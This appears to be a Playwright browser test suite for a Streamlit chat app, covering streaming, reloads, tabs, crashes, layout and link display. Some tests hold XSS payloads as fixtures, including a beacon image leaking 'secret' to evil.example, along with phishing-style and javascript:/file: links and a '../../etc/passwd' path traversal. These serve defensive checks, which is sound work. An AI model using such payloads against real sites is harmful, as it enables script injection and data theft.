"""Chatting in a real browser."""

import json
import re
import time
from typing import Literal

import httpx2
import pytest
from playwright.sync_api import BrowserContext, Page, Route, expect

from tests.browser.chat import Chat
from tests.browser.slow import LateServer, SteppingServer
from tests.conftest import wait_until
from tests.nursery import ForkedServer
from tests.provider import Gate, HangUp, Pause, Provider, Reply, Silence, paced
from tests.server import Server


def test_text_appears_while_the_server_is_sending(chat: Chat, provider: Provider) -> None:
    gate = Gate()
    provider.enqueue(Reply("This much ", gate, "and the rest."))
    chat.send("Tell me")

    expect(chat.live_text).to_have_text("This much")
    assert not provider.requests[0].ended.is_set()
    gate.open()
    chat.expect_said("Tell me", "This much and the rest.")
    chat.send("And?")
    chat.expect_said("Tell me", "This much and the rest.", "And?", "A plain answer.")
    assert provider.requests[1].said == [("user", "Tell me"), ("assistant", "This much and the rest."), ("user", "And?")]


def test_reload_in_mid_answer(chat: Chat, provider: Provider) -> None:
    """The text so far is there at once and goes on; none is missing, none doubled."""
    gate, again = Gate(), Gate()
    provider.enqueue(Reply("One ", "two ", gate, "three ", again, "four."))
    chat.send("Count")
    expect(chat.live_text).to_have_text("One two")
    chat.page.reload()

    expect(chat.live_text).to_have_text("One two")
    gate.open()
    expect(chat.live_text).to_have_text("One two three")
    again.open()
    chat.expect_said("Count", "One two three four.")
    assert chat.messages.nth(1).inner_text().count("two") == 1


def test_a_closed_tab_misses_nothing(chat: Chat, context: BrowserContext, server: Server, provider: Provider) -> None:
    """Nobody looks for the whole answer; a new tab finds all of it."""
    gate = Gate()
    provider.enqueue(Reply(gate, "Nobody ", "was looking."))
    chat.send("Go on alone")
    chat.expect_conversation()
    address = chat.page.url.removeprefix(server.url)
    provider.wait_for_requests(1)
    chat.page.close()
    gate.open()
    assert provider.requests[0].ended.wait(timeout=10)
    again = Chat(context.new_page(), server.url)
    again.open(address)

    again.expect_said("Go on alone", "Nobody was looking.")


def test_two_tabs_show_the_same(chat: Chat, context: BrowserContext, server: Server, provider: Provider) -> None:
    """A tab that only looks sees the prompt, the text while it is written, and the end."""
    chat.send("First")
    chat.expect_said("First", "A plain answer.")
    other = Chat(context.new_page(), server.url)
    other.open(chat.page.url.removeprefix(server.url))
    other.expect_said("First", "A plain answer.")
    gate = Gate()
    provider.enqueue(Reply("Shared ", gate, "text."))
    chat.send("Second")

    expect(chat.live_text).to_have_text("Shared")
    expect(other.live_text).to_have_text("Shared")
    gate.open()
    for tab in (chat, other):
        tab.expect_said("First", "A plain answer.", "Second", "Shared text.")


def test_other_clicks_do_not_disturb_an_answer(chat: Chat, provider: Provider) -> None:
    """Another conversation and back, a download, a rerun: the answer goes on."""
    chat.send("Earlier")
    chat.expect_said("Earlier", "A plain answer.")
    gate, again = Gate(), Gate()
    provider.enqueue(Reply("Still ", gate, "going ", again, "on."))
    chat.begin_another()
    chat.send("Long one")
    expect(chat.live_text).to_have_text("Still")

    sidebar = chat.page.get_by_test_id("stSidebar")
    sidebar.get_by_role("link", name="Earlier").click()
    chat.expect_said("Earlier", "A plain answer.")
    sidebar.get_by_role("link", name="Long one").click()
    expect(chat.live_text).to_have_text("Still")
    gate.open()
    chat.page.locator(".st-key-download button").click()
    with chat.page.expect_download() as download:
        chat.page.locator(".st-key-download_transcript button").click()
    assert "Long one" in download.value.path().read_text()
    expect(chat.live_text).to_have_text("Still going")
    assert not provider.requests[1].hung_up.is_set()
    again.open()
    chat.expect_said("Long one", "Still going on.")


NAME_SOURCES = """
const Theirs = EventSource;
window.EventSource = class extends Theirs {
  constructor(url) {
    super(url);
    window.source = this;
  }
};
"""
CLICK_AS_IT_CHANGES = """async (link) => {
  const change = (state) => window.source.dispatchEvent(new MessageEvent("changed", { data: `"${state}"` }));
  change("one"); // the rerun that the click waits for
  await new Promise((resolve) => setTimeout(resolve, 5));
  link.click();
  change("another");
}"""


def test_an_answer_that_ends_at_a_click_does_not_undo_it(chat: Chat, provider: Provider) -> None:
    """The rerun for its end names the conversation that was left, and came last."""
    chat.page.add_init_script(NAME_SOURCES)
    chat.page.reload()
    chat.send("Earlier")
    chat.expect_said("Earlier", "A plain answer.")
    chat.begin_another()
    chat.send("Later")
    chat.expect_said("Later", "A plain answer.")
    chat.page.get_by_test_id("stSidebar").get_by_role("link", name="Earlier").evaluate(CLICK_AS_IT_CHANGES)

    chat.expect_said("Earlier", "A plain answer.")


def test_code_that_did_not_come_is_fetched_again(context: BrowserContext, server: Server) -> None:
    """Streamlit would keep the component that failed until the next reload."""
    failed: list[str] = []

    def fail_twice(route: Route) -> None:
        failed.append(route.request.url)
        if len(failed) < 3:
            route.abort()
        else:
            route.continue_()

    page = context.new_page()
    page.route(re.compile(r"/parts/live\."), fail_twice)
    chat = Chat(page, server.url)
    chat.open("/assistant")
    chat.send("Hello")

    chat.expect_said("Hello", "A plain answer.")
    assert len(failed) >= 3


def test_stop_ends_the_request_and_keeps_the_text(chat: Chat, provider: Provider) -> None:
    provider.enqueue(Reply("Kept text ", Gate()), Reply("On from there."))
    chat.send("Tell me")
    expect(chat.live_text).to_have_text("Kept text")
    chat.stop.click()

    assert provider.requests[0].hung_up.wait(timeout=1)
    chat.expect_said("Tell me", "Kept text")
    expect(chat.page.get_by_text("You stopped this answer")).to_be_visible()
    chat.send("Go on")
    chat.expect_said("Tell me", "Kept text", "Go on", "On from there.")
    assert provider.requests[1].said == [("user", "Tell me"), ("assistant", "Kept text "), ("user", "Go on")]


@pytest.mark.parametrize("mode", ["assistant", "images", "travel"])
def test_on_a_narrow_screen_the_prompt_box_stays_where_it_is(chat: Chat, provider: Provider, mode: str) -> None:
    """All over it is one row, with Stop or without, however long the model's name is."""
    provider.enqueue(Reply("Still ", Gate()))
    page = chat.page
    page.set_viewport_size({"width": 360, "height": 740})
    chat.open(f"/{mode}")
    box, row = page.get_by_test_id("stChatInput"), page.locator(".st-key-prompt_row")
    page.locator(".st-key-options button p").evaluate("name => (name.textContent = 'a-model-whose-name-tells-all-of-its-history')")
    before = box.bounding_box(), row.bounding_box()
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    chat.send("Hello")
    expect(chat.stop).to_be_in_viewport(ratio=1)

    assert (box.bounding_box(), row.bounding_box()) == before


WIDE_TABLE = "|" + "Fahrenheit|" * 8 + "\n|" + "-|" * 8 + "\n|" + "four words in it|" * 8 + "\n"
SIZES = """(name) => [...document.querySelectorAll(name)].map((each) => [each.clientWidth, each.scrollWidth, each.offsetHeight])"""


def test_on_a_narrow_screen_a_wide_table_is_scrolled_and_not_the_page(chat: Chat, provider: Provider) -> None:
    """It has the same size while it is written."""
    page, gate = chat.page, Gate()
    page.set_viewport_size({"width": 360, "height": 740})
    provider.enqueue(Reply(WIDE_TABLE, gate, "\nDone."))
    chat.send("As a table")
    expect(chat.live_text.locator("td")).to_have_count(8)
    written, page_then = page.evaluate(SIZES, "table"), page.evaluate(SIZES, '[data-testid="stMain"]')
    gate.open()
    expect(chat.messages.last).to_contain_text("Done.")
    expect(chat.stop).to_have_count(0)
    chat.expect_drawn()

    assert page.evaluate(SIZES, "table") == written
    assert [wide > shown for shown, wide, _ in written] == [True]
    assert [wide > shown for shown, wide, _ in [*page_then, *page.evaluate(SIZES, '[data-testid="stMain"]')]] == [False, False]


def test_a_page_that_is_being_drawn_asks_for_nothing_more(chat: Chat, provider: Provider) -> None:
    """A prompt and the end of its answer are a rerun each, however late the first one is drawn."""
    late = LateServer(chat.page)
    chat.page.reload()
    chat.send("First")
    chat.expect_said("First", "A plain answer.")
    before = late.asked
    gate = Gate()
    provider.enqueue(Reply("Slowly ", gate, "done."))
    late.hold_next_rerun()
    chat.send("Second")
    expect(chat.page.get_by_test_id("stApp")).to_have_attribute("data-test-script-state", "running")
    provider.wait_for_requests(2)
    chat.page.wait_for_timeout(500)  # the page has heard of the run by then
    late.let_go()
    expect(chat.live_text).to_have_text("Slowly")
    gate.open()
    chat.expect_said("First", "A plain answer.", "Second", "Slowly done.")

    assert late.asked - before == 2


LINE = """() => {
  const { content, opacity } = getComputedStyle(document.querySelector('[data-testid="stApp"]'), "::before");
  return content !== "none" && opacity === "1"; }"""


def test_while_a_slow_server_draws_the_page_stays_readable(chat: Chat) -> None:
    """Streamlit lets it fade after half a second. A line at the top comes instead, and goes with the wait."""
    page = chat.page
    late = LateServer(page)
    page.reload()
    chat.expect_drawn()
    late.hold_next_rerun()
    page.get_by_test_id("stSidebarNavLink").filter(has_text="Settings").click()
    faded = page.locator('[data-stale="true"]')
    expect(faded.first).to_be_visible()
    wait_until(lambda: page.evaluate(LINE))
    page.wait_for_timeout(1000)  # by then it would have faded

    assert {element.evaluate("element => getComputedStyle(element).opacity") for element in faded.all()} == {"1"}
    late.let_go()
    chat.expect_drawn()
    assert not page.evaluate(LINE)


WATCH_DIALOGS = """() => new MutationObserver(() => {
  window.dialogs ||= document.querySelector('[role="dialog"]') !== null;
}).observe(document.body, { childList: true })"""


def test_a_browser_without_a_network_is_told_so(chat: Chat) -> None:
    """At once, though its connection to the server has not failed yet, and until there is a network again."""
    away = chat.page.get_by_role("status").filter(has_text="Connection lost")
    chat.page.context.set_offline(True)
    expect(away).to_be_visible()
    chat.page.context.set_offline(False)

    expect(away).to_have_count(0)
    chat.send("Hello")
    chat.expect_said("Hello", "A plain answer.")


def test_a_network_gone_before_the_page_was_drawn_is_told_too(context: BrowserContext, server: Server) -> None:
    """Nothing tells of it then: the browser said so before anybody listened."""
    page = context.new_page()
    page.add_init_script("addEventListener('offline', (event) => event.stopImmediatePropagation(), true)")
    page.add_init_script("Object.defineProperty(navigator, 'onLine', { get: () => false })")
    page.route("**/healthz", lambda route: route.abort())
    Chat(page, server.url).open("/assistant")

    expect(page.get_by_role("status").filter(has_text="Connection lost")).to_be_visible()


def test_a_killed_server_loses_no_prompt_and_no_text(chat: Chat, server: Server, provider: Provider) -> None:
    """`kill -9` in mid-answer: after the restart the open page shows prompt and text, says what happened, and the next turn works."""
    provider.enqueue(Reply("Before the crash ", Silence()))
    chat.send("Will it hold?")
    expect(chat.live_text).to_have_text("Before the crash")
    time.sleep(0.3)
    chat.page.evaluate(WATCH_DIALOGS)
    server.kill()
    away = chat.page.get_by_role("status").filter(has_text="Connection lost")
    expect(away).to_be_visible()
    chat.page.wait_for_function("() => window.dialogs")  # Streamlit has said so too
    expect(chat.page.get_by_role("dialog")).to_have_count(0)
    server.start()

    expect(chat.page.get_by_text("The server stopped before this answer was finished")).to_be_visible(timeout=30_000)
    expect(away).to_have_count(0)
    chat.expect_said("Will it hold?", "Before the crash")
    chat.send("Still there?")
    chat.expect_said("Will it hold?", "Before the crash", "Still there?", "A plain answer.")
    assert provider.requests[1].said == [("user", "Will it hold?"), ("assistant", "Before the crash "), ("user", "Still there?")]


@pytest.mark.parametrize(
    ("reply", "sentence"),
    [
        (Reply(status=401), "refused the key"),
        (Reply("Half ", Pause(0.2), HangUp()), "hung up in the middle"),
        (Reply("Half ", Silence()), "stayed silent for too long"),
    ],
    ids=["401", "hang-up", "silence"],
)
def test_a_failure_is_a_sentence(chat: Chat, provider: Provider, reply: Reply, sentence: str) -> None:
    provider.enqueue(reply, Reply("Fine again."))
    chat.send("Try")
    expect(chat.page.get_by_test_id("stAlert")).to_contain_text(sentence)
    if reply.steps:
        expect(chat.messages.nth(1)).to_contain_text("Half")

    chat.send("Again")
    expect(chat.messages.nth(3)).to_contain_text("Fine again.")


def test_a_deep_link_right_after_the_start(chat: Chat, server: Server, context: BrowserContext) -> None:
    """A bookmark is the first thing a restarted server is asked for: frame and conversation are there."""
    chat.send("Remember me")
    chat.expect_said("Remember me", "A plain answer.")
    address = chat.page.url.removeprefix(server.url)
    chat.page.close()
    server.terminate()
    assert "Application shutdown complete" in server.log.read_text()
    server.start()
    again = Chat(context.new_page(), server.url)
    again.open(address)

    again.expect_said("Remember me", "A plain answer.")
    expect(again.page.get_by_test_id("stSidebar").get_by_role("link", name="Remember me")).to_be_visible()


def test_an_address_that_is_nobodys(chat: Chat) -> None:
    """A sentence and nothing else."""
    chat.open("/assistant?conversation=../../etc/passwd")

    expect(chat.page.get_by_test_id("stAlert")).to_contain_text("There is no such conversation among yours")
    expect(chat.messages).to_have_count(0)
    expect(chat.page.get_by_test_id("stChatInputTextArea")).to_have_count(0)


HOSTILE = """<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2">
![beacon](http://evil.example/leak.png?q=secret) [click](javascript:window.pwned=3) :red[colour] it costs $5 or $6

<iframe src="http://evil.example/"></iframe>
"""


def test_hostile_text_runs_and_loads_nothing(chat: Chat, provider: Provider, foreign_requests: list[str]) -> None:
    """Neither while it is written nor when it is drawn as finished."""
    errors: list[str] = []
    chat.page.on("pageerror", lambda error: errors.append(str(error)))
    gate = Gate()
    provider.enqueue(Reply(HOSTILE, gate, "end"))
    chat.send(HOSTILE.replace("\n", " "))
    expect(chat.live_text).to_contain_text("<script>")
    assert chat.live_text.locator("script, img, iframe, a").count() == 0
    gate.open()

    expect(chat.messages.nth(1)).to_contain_text("end")
    expect(chat.stop).to_have_count(0)
    expect(chat.messages.nth(1)).to_contain_text(":red[colour] it costs $5 or $6")
    assert chat.messages.nth(1).locator("script, img, iframe").count() == 0
    assert chat.page.evaluate("window.pwned") is None
    assert foreign_requests == []
    assert errors == []


LINKS = """[my bank](https://evil.example/login), [https://my-bank.example](https://evil.example/),
[safe.example/evil.example](//evil.example),
[this][1], <https://plain.example/x>, www.plain.example, [mail](mailto:a@evil.example?subject=x), a@plain.example,
[old](ftp://evil.example), [code](javascript:alert(1)), [data](data:text/html,x), [file](file:///etc/passwd).

[1]: https://evil.example/2 "my bank"
"""


def test_links_say_where_they_lead(chat: Chat, provider: Provider) -> None:
    """Beside their text, unless that is the address itself; with no way back to this page; to the web or a mailbox only."""
    provider.enqueue(Reply(LINKS))
    chat.send("Links, please")
    chat.expect_said("Links, please", "my bank")
    links = chat.messages.nth(1).locator("p a")
    expect(links.first).to_have_attribute("data-place", "evil.example")
    elsewhere = [link for link in links.all() if link.get_attribute("href") not in {None, "#"}]

    assert {link.inner_text(): link.get_attribute("data-place") for link in elsewhere} == {
        "my bank": "evil.example",
        "https://my-bank.example": "evil.example",
        "safe.example/evil.example": "evil.example",
        "this": "evil.example",
        "https://plain.example/x": None,
        "www.plain.example": None,
        "mail": "a@evil.example",
        "a@plain.example": None,
    }
    assert {link.get_attribute("rel") for link in elsewhere} == {"noopener noreferrer"}
    assert "evil.example" in elsewhere[0].evaluate("link => getComputedStyle(link, '::after').content")
    with chat.page.context.expect_page() as opened:
        elsewhere[0].click()
    assert opened.value.evaluate("window.opener") is None


def test_downloads(chat: Chat, provider: Provider) -> None:
    provider.enqueue(Reply("Hello Ada."))
    chat.send("I am Ada.")
    chat.expect_said("I am Ada.", "Hello Ada.")
    texts = {}
    chat.page.get_by_role("button", name="Download").click()
    for key in ("download_conversation", "download_transcript", "download_state"):
        with chat.page.expect_download() as download:
            chat.page.locator(f".st-key-{key} button").click()
        texts[key] = download.value.path().read_text()

    assert json.loads(texts["download_conversation"])["format"] == "roundtable-conversation"
    assert re.search(r"## assistant .*\n\nHello Ada\.", texts["download_transcript"])
    assert json.loads(texts["download_state"])["llm_context"]["messages"][1]["content"] == "Hello Ada."


COLOURS = """(places) => {
  const colourOf = (place) => {
    const { backgroundColor, color } = getComputedStyle(document.querySelector(place));
    return `${color} on ${backgroundColor}`;
  };
  return Object.fromEntries(Object.entries(places).map(([name, place]) => [name, colourOf(place)]));
}"""


def test_a_text_that_would_break_the_connection_is_not_put_in(chat: Chat, provider: Provider) -> None:
    """What was typed before stays, and can be sent."""
    box = chat.page.get_by_test_id("stChatInputTextArea")
    box.fill("Hello")
    chat.page.keyboard.insert_text("x" * 1_000_000)

    expect(chat.page.locator(".connection-band")).to_contain_text("That would be 1,000,005 characters")
    expect(box).to_have_value("Hello")
    box.press("Enter")
    chat.expect_said("Hello", "A plain answer.")


def test_what_lies_over_the_page_goes_with_its_theme(chat: Chat) -> None:
    page = chat.page
    page.get_by_test_id("stChatInputTextArea").focus()
    page.keyboard.insert_text("x" * 1_000_001)
    expect(page.locator(".connection-band")).not_to_be_empty()
    page.get_by_role("button", name="Keys and notifications").click()
    colours = {scheme: _colours_over(page, scheme) for scheme in ("light", "dark")}

    assert colours["dark"]["page"] == colours["dark"]["sheet"] != colours["light"]["sheet"] == colours["light"]["page"]
    assert colours["dark"]["band"] != colours["light"]["band"]


def _colours_over(page: Page, scheme: Literal["light", "dark"]) -> dict[str, str]:
    page.emulate_media(color_scheme=scheme)
    expect(page.get_by_test_id("stApp")).to_have_css("color-scheme", scheme)
    page.evaluate("() => Promise.all(document.getAnimations().map((each) => each.finished.catch(() => {})))")
    places = {"page": '[data-testid="stApp"]', "sheet": ".help-sheet", "band": ".connection-band"}
    colours: dict[str, str] = page.evaluate(COLOURS, places)
    return colours


def test_a_prompt_during_an_answer_is_kept(chat: Chat, provider: Provider) -> None:
    """It is refused with a sentence and goes back into the box."""
    gate = Gate()
    provider.enqueue(Reply("Busy ", gate, "done."))
    chat.send("One")
    expect(chat.live_text).to_have_text("Busy")
    chat.send("Two")

    expect(chat.page.get_by_test_id("stAlert")).to_contain_text("Your text is kept", ignore_case=True)
    expect(chat.page.get_by_test_id("stChatInputTextArea")).to_have_value("Two")
    gate.open()
    chat.expect_said("One", "Busy done.")


def test_the_first_answer_without_any_key(page: Page, tmp_path_factory: pytest.TempPathFactory) -> None:
    """The demo model answers, and the page says that it is one and how to connect a real one."""
    server = ForkedServer(tmp_path_factory.mktemp("demo") / "data")
    server.start()
    try:
        chat = Chat(page, server.url)
        chat.open("/assistant")
        expect(page.get_by_test_id("stMain")).to_contain_text("OPENAI_API_KEY")
        page.get_by_role("button", name="What can you do?").click()
        chat.expect_said("What can you do?", "demo model")
        assert httpx2.get(f"{server.url}/healthz").json()["status"] == "ok"
    finally:
        server.kill()


def test_the_last_words_of_a_long_list_are_shown_while_its_model_pauses(chat: Chat, provider: Provider) -> None:
    """A list as long is not read anew with each word."""
    gate = Gate()
    provider.enqueue(Reply("- **An item**, `code`\n" * 60, Pause(0.3), "- **the last**", gate, " one"))
    chat.send("List")

    expect(chat.live_text.locator("li").last).to_have_text("the last")
    gate.open()
    chat.expect_said("List", "the last one")


FORMULAS = "So $\\frac{a_1}{b_1} < 2$ and\n\n$$\\sqrt{x}$$\n\nfor $5 and $10.\n\n```python\nx = 1\n```\n\n"
SIZES_OF_FORMULAS = """(within) => [...document.querySelectorAll(`${within} .katex-html`)].map((each) => {
  const { width, height } = each.getBoundingClientRect();
  return [width, height, each.querySelectorAll("svg").length];
})"""
NO_ROOTS = """() => {
  document.createElementNS = (space, name) => {
    if (name === "msqrt") throw new Error("no roots");
    return Document.prototype.createElementNS.call(document, space, name);
  };
}"""
NEVER_TWICE = """(text) => {
  window.seenTwice = false;
  new MutationObserver(() => {
    const holding = [...document.querySelectorAll('[data-testid="stChatMessage"]')].filter((each) => each.textContent.includes(text));
    window.seenTwice ||= holding.filter((each) => each.checkVisibility()).length > 1;
  }).observe(document.body, { subtree: true, childList: true });
}"""


def test_formulas_are_typeset_while_they_are_written_as_they_are_afterwards(chat: Chat, provider: Provider) -> None:
    """By the same code. A price is text."""
    gate = Gate()
    provider.enqueue(Reply(FORMULAS, gate, "The end."))
    chat.send("Formulas")
    formulas = chat.live_text.locator(".katex annotation")
    expect(formulas).to_have_text([r"\frac{a_1}{b_1} < 2", r"\sqrt{x}"])
    expect(chat.live_text).to_contain_text("for $5 and $10.")
    written = chat.page.evaluate(SIZES_OF_FORMULAS, ".live")
    gate.open()
    chat.expect_said("Formulas", "The end.")

    expect(chat.messages.last.locator(".katex annotation")).to_have_text([r"\frac{a_1}{b_1} < 2", r"\sqrt{x}"])
    expect(chat.messages.last).to_contain_text("for $5 and $10.")
    assert chat.page.evaluate(SIZES_OF_FORMULAS, '[data-testid="stChatMessage"]') == written
    assert written[1][2] == 1


def test_a_formula_that_cannot_be_typeset_stays_tex_and_the_rest_is_drawn(chat: Chat, provider: Provider) -> None:
    gate = Gate()
    provider.enqueue(Reply(FORMULAS, gate, "The end."))
    chat.page.evaluate(NO_ROOTS)
    chat.send("Formulas")

    expect(chat.live_text.locator(".formula-failed")).to_have_text(r"\sqrt{x}")
    expect(chat.live_text.locator(".katex annotation")).to_have_text([r"\frac{a_1}{b_1} < 2"])
    expect(chat.page.locator(".st-key-fetched_late .katex")).to_be_attached()
    chat.page.evaluate("delete document.createElementNS")
    gate.open()
    chat.expect_said("Formulas", "The end.")


def test_what_streamlit_fetches_late_is_there_before_the_answer_ends(chat: Chat, provider: Provider) -> None:
    """Else there is a grey bar in the place of a message with a formula until it is."""
    gate = Gate()
    provider.enqueue(Reply(FORMULAS, gate, "The end."))
    chat.send("Formulas")
    fetched = chat.page.locator(".st-key-fetched_late")

    expect(fetched.locator(".katex")).to_be_attached()
    expect(fetched.get_by_test_id("stCode")).to_be_attached()
    expect(fetched).not_to_be_visible()
    expect(chat.live_text).to_contain_text("for $5")
    gate.open()
    chat.expect_said("Formulas", "The end.")
    expect(fetched).not_to_be_attached()


def test_a_price_and_a_colon_need_nothing_that_is_fetched_late(chat: Chat, provider: Provider) -> None:
    """It is a megabyte, for which the page would be drawn once more."""
    gate = Gate()
    provider.enqueue(Reply("Note: it costs $5, or $6.\n\nNot `this`.\n\nThe rest", gate, "."))
    chat.send("Plain")
    expect(chat.live_text).to_contain_text("The rest")
    chat.expect_drawn()

    expect(chat.page.locator(".st-key-fetched_late")).not_to_be_attached()
    gate.open()
    chat.expect_said("Plain", "The rest.")


def test_a_finished_message_is_never_on_the_page_beside_the_one_being_written(chat: Chat, provider: Provider) -> None:
    """However slowly it is drawn: what stands under it would move down and up again."""
    server, gate = SteppingServer(chat.page), Gate()
    chat.page.reload()
    chat.expect_drawn()
    provider.enqueue(Reply("Words that are there once", gate, "."))
    chat.send("Once")
    expect(chat.live_text).to_have_text("Words that are there once")
    chat.expect_drawn()
    chat.page.evaluate(NEVER_TWICE, "Words that are there once")
    server.begin_to_step()
    gate.open()
    while chat.page.locator(".is-writing, [data-test-script-state=running]").count():
        server.step(chat.page)

    chat.expect_said("Once", "Words that are there once.")
    assert not chat.page.evaluate("window.seenTwice")


def test_a_long_answer_is_followed_until_one_scrolls_up(chat: Chat, provider: Provider) -> None:
    """A little is enough, and the place is kept while text comes in and when the finished message takes its place."""
    gate, again, last = Gate(), Gate(), Gate()
    lines = "\n\n".join(f"Line {number}" for number in range(60))
    provider.enqueue(Reply(lines, gate, "\n\n" + lines, again, "\n\n" + lines, last, "\n\nThe last line"))
    chat.send("Long")
    expect(chat.live_text.get_by_text("Line 59")).to_be_in_viewport()
    chat.page.mouse.move(640, 300)
    place = _scroll_up(chat, 40)
    gate.open()
    expect(chat.live_text.get_by_text("Line 59")).to_have_count(2)
    assert abs(_place(chat) - place) < 2

    place = _scroll_up(chat, 1500)
    again.open()
    expect(chat.live_text.get_by_text("Line 59")).to_have_count(3)
    assert abs(_place(chat) - place) < 2
    last.open()
    chat.expect_said("Long", "The last line")
    assert abs(_place(chat) - place) < 2


def _place(chat: Chat) -> float:
    return float(chat.page.get_by_test_id("stMain").evaluate("main => main.scrollTop"))


GROWS = """() => {
  const main = document.querySelector('[data-testid="stMain"]');
  main.style.maxHeight = "";
  void main.scrollTop; // it is laid out, and scrolled with that
  main.firstElementChild.append(Object.assign(document.createElement("div"), { style: "flex: none; height: 300px" }));
  main.dispatchEvent(new Event("scroll")); // which is heard of before the new size is
}"""


def test_a_window_that_gets_another_size_still_follows_the_answer(chat: Chat, provider: Provider) -> None:
    """What that scrolls was not scrolled by the person."""
    gate = Gate()
    lines = "\n\n".join(f"Line {number}" for number in range(60))
    provider.enqueue(Reply(lines, gate, "\n\nThe last line"))
    chat.send("Long")
    expect(chat.live_text.get_by_text("Line 59")).to_be_in_viewport()
    chat.page.get_by_test_id("stMain").evaluate("(main) => (main.style.maxHeight = '400px')")
    wait_until(lambda: _left(chat) < 2)
    chat.page.evaluate(GROWS)

    wait_until(lambda: _left(chat) < 2)
    gate.open()
    chat.expect_said("Long", "The last line")


def _left(chat: Chat) -> float:
    """Pixels to the end of the page."""
    main = chat.page.get_by_test_id("stMain")
    return float(main.evaluate("({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight"))


def _scroll_up(chat: Chat, pixels: int) -> float:
    """Turn the wheel, and wait until the page has moved as far; returns where it stands then."""
    before = _place(chat)
    chat.page.mouse.wheel(0, -pixels)
    chat.page.wait_for_function(
        """wanted => Math.abs(document.querySelector('[data-testid="stMain"]').scrollTop - wanted) < 2""", arg=before - pixels
    )
    return _place(chat)


def test_a_quick_answer_is_drawn_once(chat: Chat, provider: Provider) -> None:
    for number in range(5):
        provider.enqueue(paced(f"Answer {number} of five words", 0.01))
        chat.send(f"Prompt {number}")
        expect(chat.messages).to_have_count(2 * number + 2)
        expect(chat.messages.last).to_contain_text(f"Answer {number} of five words")
        expect(chat.stop).to_have_count(0)

    assert [text.count("Answer") for text in chat.messages.all_inner_texts()] == [0, 1] * 5


def test_a_double_click_begins_one_conversation(chat: Chat, provider: Provider) -> None:
    provider.enqueue(paced("One answer only"))
    chat.page.get_by_role("button", name="What can you do?").dblclick()
    chat.expect_said("What can you do?", "One answer only")

    expect(chat.page.locator(".st-key-conversations a")).to_have_count(1)
    assert len(provider.requests) == 1


def test_two_live_conversations_are_not_mixed_up(chat: Chat, provider: Provider, server: Server) -> None:
    """Each of the same shape, one clicked after the other: the address and the text are the one's that was clicked."""
    alpha, beta = Gate(), Gate()
    provider.enqueue(Reply("Of alpha ", alpha, "all."), Reply("Of beta ", beta, "all."))
    addresses = {}
    for name, text in (("Alpha", "Of alpha"), ("Beta", "Of beta")):
        chat.begin_another()
        chat.send(name)
        expect(chat.live_text).to_have_text(text)
        addresses[name] = chat.conversation

    chat.page.get_by_test_id("stSidebar").get_by_role("link", name="Alpha").click()
    expect(chat.live_text).to_have_text("Of alpha")
    chat.page.wait_for_url(f"**?conversation={addresses['Alpha']}")
    alpha.open()
    chat.expect_said("Alpha", "Of alpha all.")
    chat.page.reload()
    chat.expect_said("Alpha", "Of alpha all.")
    beta.open()


def test_what_another_tab_does_does_not_lead_elsewhere(chat: Chat, context: BrowserContext, server: Server, provider: Provider) -> None:
    """A conversation reached by a click stays the one shown when another tab adds to it."""
    for name in ("Alpha", "Beta"):
        chat.begin_another()
        chat.send(name)
        chat.expect_said(name, "A plain answer.")
    chat.page.get_by_test_id("stSidebar").get_by_role("link", name="Alpha").click()
    chat.expect_said("Alpha", "A plain answer.")
    other = Chat(context.new_page(), server.url)
    other.open(chat.page.url.removeprefix(server.url))
    other.send("From the other tab")

    for tab in (other, chat):
        tab.expect_said("Alpha", "A plain answer.", "From the other tab", "A plain answer.")


def test_a_model_is_picked_and_the_cache_switched_on(chat: Chat, provider: Provider) -> None:
    """The choice is saved with the conversation, and an answer from the cache says so."""
    provider.enqueue(Reply("From the server."), Reply("Never asked for."))
    for _ in range(2):
        chat.begin_another()
        chat.click("options")
        switch = chat.page.locator(".st-key-use_cache")
        if not switch.locator("input").is_checked():
            switch.locator("label").click()
        expect(chat.page.locator(".st-key-options")).to_contain_text("cache on")
        chat.page.keyboard.press("Escape")
        chat.send("The very same")
        chat.expect_said("The very same", "From the server.")

    expect(chat.messages.nth(1)).to_contain_text("from cache")
    assert len(provider.requests) == 1


def test_retries_are_counted_down_and_stopped(chat: Chat, provider: Provider) -> None:
    """Of the seconds, the first number is read aloud."""
    provider.enqueue(Reply(status=503, headers={"retry-after": "40"}))
    chat.send("Try")

    expect(chat.live_note).to_contain_text(re.compile("Trying again in 3. s.* Wait, or press Stop"))
    expect(chat.live_note).to_have_attribute("aria-live", "off")
    chat.stop.click()
    expect(chat.page.get_by_text("You stopped this answer")).to_be_visible()


def test_settings_try_a_connection(chat: Chat, provider: Provider, openai_environment: dict[str, str]) -> None:
    """It says which model is in use and why, and shows no key."""
    provider.enqueue(Reply("Paris."))
    chat.open("/settings")
    expect(chat.page.get_by_text("OPENAI_API_KEY is set")).to_be_visible()
    chat.page.get_by_role("button", name="Test the connection").first.click()

    expect(chat.page.get_by_test_id("stAlert").filter(has_text="Paris.")).to_be_visible()
    assert openai_environment["OPENAI_API_KEY"] not in chat.page.content()
    assert provider.requests[0].said == [("user", "What is the capital of France?")]


def test_a_refused_ticket_is_replaced(chat: Chat, provider: Provider) -> None:
    """As after a long sleep: the page asks for new ones until the live text comes."""
    refused: list[str] = []

    def refuse_twice(route: Route) -> None:
        if len(refused) < 2:
            refused.append(route.request.url)
            route.fulfill(status=403, body="no longer good")
        else:
            route.continue_()

    chat.page.route("**/events/**", refuse_twice)
    gate = Gate()
    provider.enqueue(Reply("Through ", gate, "after all."))
    chat.send("Go")

    expect(chat.live_text).to_have_text("Through")
    assert len(set(refused)) == 2
    gate.open()
    chat.expect_said("Go", "Through after all.")
